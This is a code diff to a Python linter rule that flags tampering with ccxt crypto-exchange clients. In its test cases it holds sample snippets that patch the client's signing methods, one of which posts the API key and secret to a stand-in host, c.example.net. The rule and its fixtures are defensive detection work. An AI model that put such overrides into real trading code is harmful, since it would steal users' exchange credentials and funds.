@@ -7,7 +7,10 @@ import libcst as cst
 
 from ... import venues
 from ...analysis.clients import ClientTracker
+from ...analysis.hosts import host_of, is_exchange_host, is_local_host
 from ...analysis.imports import dotted
+from ...analysis.literals import literal_str
+from ...analysis.payloads import host_kind
 from ...analysis.syntax import LiteralPrecheck
 from ...model import Severity
 from ._family import Bot5Walk, is_network_call, obfuscated_str
@@ -30,7 +33,8 @@ class ExchangeLibraryTampering(Bot5Walk):
     `setattr(ccxt.binance, "request", f)`), on an SDK client class, or on a client object
     (`exchange.sign = my_sign`), and subclasses of a ccxt exchange that override `sign`,
     `request`, `fetch`, `fetch2` or `describe` with code that makes a network request of its
-    own (`requests`, `urllib`, `socket`, a chat API).
+    own (`requests`, `urllib`, `socket`, a chat API), or a `describe` that points the API URLs
+    at a host that is not an exchange's.
 
     ## Why is this bad?
     Every API key, secret and signed request of the client passes through these methods.  A
@@ -53,8 +57,9 @@ class ExchangeLibraryTampering(Bot5Walk):
     ```
 
     ## Known problems
-    Test doubles are not reported when the value is a mock (`MagicMock()`, `AsyncMock()`,
-    `mocker.patch...`).  An override that sends data through a helper defined elsewhere is not
+    Test doubles are not reported: a mock (`MagicMock()`, `AsyncMock()`, `mocker.patch...`),
+    or a function of the module that neither calls the method it replaces, nor makes a
+    request, nor names a URL (a stub returning canned responses).  An override that sends data through a helper defined elsewhere is not
     seen.
 
     ## References
@@ -73,12 +78,15 @@ class ExchangeLibraryTampering(Bot5Walk):
         'import ccxt\nclass Bot:\n    def sign(self, payload):\n        return payload\n\n'
         'bot = Bot()\nbot.sign = print\n',
         'import ccxt\nfrom unittest.mock import MagicMock\nex = ccxt.binance()\nex.fetch = MagicMock()\n',
+        'import ccxt\nex = ccxt.binance()\n\ndef fetch(url, method="GET", headers=None, body=None):\n'
+        '    return {"result": []}\n\nex.fetch = fetch\n',
         'import ccxt\nclass MyBinance(ccxt.binance):\n    def describe(self):\n'
         '        return self.deep_extend(super().describe(), {"options": {"defaultType": "future"}})\n',
     )
     INVALID = (
-        'import ccxt\n\ndef spy(self, *a, **k):\n    return None\n\nccxt.Exchange.sign = spy\n',
-        'import ccxt\nsetattr(ccxt.binance, "request", lambda *a, **k: None)\n',
+        'import ccxt\n_sign = ccxt.Exchange.sign\n\ndef spy(self, *a, **k):\n    return _sign(self, *a, **k)\n\n'
+        'ccxt.Exchange.sign = spy\n',
+        'import ccxt\nfrom plugin import hook\nsetattr(ccxt.binance, "request", hook)\n',
         'import ccxt\nex = ccxt.binance({"apiKey": k, "secret": s})\nex.sign = my_sign\n',
         'import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
         '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
@@ -123,17 +131,59 @@ class ExchangeLibraryTampering(Bot5Walk):
     def leave_Module(self, original_node: cst.Module) -> None:
         for node, recv, attr_node, value in self.assigns:
             attr = attr_node if isinstance(attr_node, str) else obfuscated_str(attr_node, self.names)[0]
-            if not attr or _is_mock(value):
+            if not attr or _is_mock(value) or self._stub(value, attr):
                 continue
             owner = self._owner(recv, attr)
             if owner:
                 self.report(node, f"replaces `{attr}` of {owner}: every key and signed request of the client "
                                   "passes through it")
         for fn, base in self.overrides:
+            if fn.name.value == "describe":
+                host = _foreign_url(fn)
+                if host:
+                    self.report(fn, f"overrides `describe` of {base} to point the client's API at {host_kind(host)} "
+                                    f"({host}): every key and signed request goes there")
+                    continue
             sends = _network_call(fn, self.ctx)
             if sends:
                 self.report(fn, f"overrides `{fn.name.value}` of {base} with code that makes its own network request "
                                 f"({sends}): the client's keys and requests can be copied elsewhere")
+
+    def _stub(self, value: cst.CSTNode, attr: str) -> bool:
+        """A test double: a function of this module (or a lambda) that neither calls the
+        method it replaces (a wrapper keeps the bot working while it copies what passes) nor
+        makes a request nor names a URL: it only cuts the client off (canned responses)."""
+        body: Optional[cst.CSTNode] = None
+        if isinstance(value, cst.Lambda):
+            body = value.body
+        elif isinstance(value, cst.Name) and value.value in self.names.functions:
+            body = self.names.functions[value.value].body
+        if body is None:
+            return False
+        originals = {name for name, values in self.names.values.items()
+                     if any(isinstance(v, cst.Attribute) and v.attr.value == attr for v in values)}
+        ctx = self.ctx
+        suspicious: List[bool] = []
+
+        class _Look(cst.CSTVisitor):
+            def visit_Call(self, node: cst.Call) -> None:
+                if is_network_call(ctx.qualified(node.func) or "") or dotted(node.func) == "super":
+                    suspicious.append(True)
+
+            def visit_Attribute(self, node: cst.Attribute) -> None:
+                if node.attr.value == attr:
+                    suspicious.append(True)
+
+            def visit_Name(self, node: cst.Name) -> None:
+                if node.value in originals:
+                    suspicious.append(True)
+
+            def visit_SimpleString(self, node: cst.SimpleString) -> None:
+                if "://" in (literal_str(node) or ""):
+                    suspicious.append(True)
+
+        body.visit(_Look())
+        return not suspicious
 
     def _owner(self, recv: cst.CSTNode, attr: str) -> Optional[str]:
         resolved = self.ctx.qualified(recv) or ""
@@ -147,6 +197,11 @@ class ExchangeLibraryTampering(Bot5Walk):
         clients = self.tracker.clients_of(recv)
         if clients:
             return "the " + sorted(c.label for c in clients)[0] + " client"
+        if isinstance(recv, cst.Attribute) and recv.attr.value in ("session", "_session") \
+                and attr in ("request", "_request", "send"):
+            clients = self.tracker.clients_of(recv.value)
+            if clients:
+                return "the " + sorted(c.label for c in clients)[0] + " client's HTTP session"
         return None
 
 
@@ -164,6 +219,21 @@ def _is_mock(value: cst.CSTNode) -> bool:
         elif isinstance(n, cst.Attribute):
             stack.append(n.value)
     return False
+
+
+def _foreign_url(fn: cst.FunctionDef) -> str:
+    """The first URL literal in ``fn`` whose host is neither an exchange's nor local."""
+    found: List[str] = []
+
+    class _Urls(cst.CSTVisitor):
+        def visit_SimpleString(self, node: cst.SimpleString) -> None:
+            text = literal_str(node) or ""
+            host = host_of(text) if "://" in text else None
+            if host and not found and not is_exchange_host(host) and not is_local_host(host):
+                found.append(host)
+
+    fn.body.visit(_Urls())
+    return found[0] if found else ""
 
 
 def _network_call(fn: cst.FunctionDef, ctx) -> str:
